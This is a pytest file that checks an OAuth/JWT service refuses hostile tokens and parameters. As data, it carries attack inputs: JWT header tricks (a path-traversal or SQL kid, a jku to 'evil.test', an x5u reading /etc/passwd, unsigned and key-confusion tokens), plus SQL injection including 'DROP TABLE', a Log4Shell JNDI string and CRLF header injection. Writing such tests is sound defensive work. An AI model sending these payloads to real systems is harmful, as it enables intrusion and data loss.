"""Tokens made to hurt, sent to every endpoint that takes one: refused, and never a failure."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

import pytest

API = "https://api.test"


@pytest.fixture
def hostile(mint: Any, foreign_mint: Any, helpers: Any, keys: Any) -> dict[str, str]:
    jwk = helpers.public_jwk(keys.foreign)
    payload = json.dumps(mint.claims()).encode()
    header = json.dumps(mint.header()).encode()
    headers: dict[str, dict[str, Any]] = {
        "a path as kid": {"kid": "../../../../dev/null"},
        "SQL as kid": {"kid": "x' OR '1'='1"},
        "NUL in kid": {"kid": mint.kid + "\0"},
        "a number as kid": {"kid": 7},
        "an array as kid": {"kid": [mint.kid]},
        "an object as kid": {"kid": {"$ne": ""}},
        "a huge kid": {"kid": "k" * 4000},
        "jku": {"jku": "https://evil.test/jwks.json"},
        "x5u": {"x5u": "file:///etc/passwd"},
        "jwk": {"jwk": jwk, "kid": ...},
        "jwk beside a kid": {"jwk": jwk},
        "crit": {"crit": ["exp"]},
        "zip": {"zip": "DEF", "alg": "RS512"},
        "an array as alg": {"alg": ["RS512"]},
        "an object as typ": {"typ": {}},
    }
    tokens = {name: foreign_mint.token({"kid": mint.kid, **h}) for name, h in headers.items()}
    return {
        **tokens,
        "unsigned": mint.unsigned(),
        "the public key as a secret": mint.hs512(),
        "huge": mint.token(padding="x" * 20_000),
        "deep claims": mint.sign(header, b"[" * 20_000),
        "deep object": mint.sign(header, b'{"a":' * 3_000 + b"1" + b"}" * 3_000),
        "deep header": mint.sign(b"[" * 4_000, payload),
        "a number of many digits": mint.sign(header, b'{"exp":' + b"9" * 5_000 + b"}"),
        "infinity": mint.sign(header, b'{"exp":1e999,"iat":0}'),
        "NaN": mint.sign(header, b'{"exp":NaN}'),
        "not UTF-8": mint.sign(header, b'{"aud":"\xff"}'),
        "a lone surrogate": mint.sign(header, b'{"aud":"\\ud800"}'),
        "claims that are no object": mint.sign(header, b'"x"'),
        "an array as aud": mint.token(aud=[API] * 500),
        "NUL in jti": mint.token(jti="a\0b"),
        "many dots": "." * 5_000,
        "no segments": "..",
        "line breaks": mint.token() + "\r\nX-Evil: 1",
        "not ASCII": mint.token() + "\U0001f600",
    }


async def refuse_all(service: Any, hostile: dict[str, str], path: str, form: Any) -> None:
    for name, token in hostile.items():
        answer = await service.post(path, form(token))
        assert 400 <= answer.status < 500, (name, answer.status)
        assert answer.json["request_id"], name
        assert len(answer.body) < 1000, name


async def test_verify_token_refuses_them(service: Any, hostile: Any) -> None:
    await refuse_all(
        service, hostile, "/verify_token", lambda token: {"access_token": token, "audience": API}
    )


async def test_introspection_calls_them_inactive(service: Any, hostile: Any) -> None:
    for name, token in hostile.items():
        answer = await service.post("/oauth/introspect", {"token": token}, as_client="orders")
        assert (answer.status, answer.json) == (200, {"active": False}), name


async def test_revocation_ignores_them(service: Any, hostile: Any) -> None:
    for name, token in hostile.items():
        answer = await service.post("/oauth/revoke", {"token": token}, as_client="orders")
        assert answer.status == 200, name


@pytest.mark.parametrize("path", ["/oauth/token", "/oauth/introspect", "/oauth/revoke"])
async def test_as_client_assertions_they_are_refused(
    service: Any, hostile: Any, path: str, helpers: Any
) -> None:
    await refuse_all(
        service,
        hostile,
        path,
        lambda token: {
            "grant_type": "client_credentials",
            "token": "x",
            **helpers.assertion_form(token),
        },
    )


async def test_an_access_token_is_no_client_assertion(service: Any, helpers: Any) -> None:
    form = {"grant_type": "client_credentials", **helpers.assertion_form(await service.token())}
    assert (await service.post("/oauth/token", form)).status == 401


@pytest.mark.parametrize("path", ["/oauth/token", "/oauth/introspect", "/oauth/revoke"])
async def test_as_authorization_headers_they_are_refused(
    service: Any, hostile: Any, path: str
) -> None:
    for name, token in hostile.items():
        if not token.isascii() or not token.isprintable():
            continue  # no server lets such a header through
        for scheme in ("Bearer", "Basic"):
            answer = await service.post(
                path,
                {"grant_type": "client_credentials"},
                ("Authorization", f"{scheme} {token}"),
            )
            assert (answer.status, answer.json["error"]) == (401, "invalid_client"), name


@pytest.mark.parametrize(
    "text",
    [
        "' OR 1=1 --",
        "'; DROP TABLE clients; --",
        "../../etc/passwd",
        "{{7*7}}",
        "${jndi:ldap://evil.test}",
        "\U0001f600",
        "%00",
        "a\r\nSet-Cookie: x=1",
        "x" * 30_000,
        "\u202e",
    ],
)
async def test_odd_texts_in_any_parameter_are_refused(service: Any, text: str) -> None:
    good = {
        "grant_type": "client_credentials",
        "client_id": "orders",
        "client_secret": service.secrets["orders"],
        "audience": API,
        "resource": API,
        "scope": "data:read",
    }
    for name in good:
        answer = await service.post("/oauth/token", {**good, name: text})
        assert 400 <= answer.status < 500, name
        assert not [header for header, _ in answer.headers if header.lower() == "set-cookie"]
    answer = await service.post("/oauth/token", urlencode(good).encode())
    assert answer.status == 200
